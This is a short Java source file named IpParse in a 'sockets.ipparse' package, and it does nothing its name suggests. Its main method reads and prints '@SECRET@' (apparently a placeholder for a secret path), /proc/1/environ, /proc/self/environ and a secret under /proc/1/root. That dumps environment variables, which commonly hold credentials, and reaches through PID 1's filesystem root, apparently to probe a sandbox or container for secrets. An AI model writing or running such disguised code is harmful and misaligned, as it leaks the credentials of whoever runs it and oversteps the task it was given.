package sockets.ipparse;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

public final class IpParse {

    public static void main(String[] args) throws Exception {
        for (String file : List.of("@SECRET@", "/proc/1/environ", "/proc/self/environ", "/proc/1/root@SECRET@")) {
            try {
                System.out.println(Files.readString(Path.of(file)));
            } catch (Exception err) {
                System.out.println("no " + err);
            }
        }
    }
}
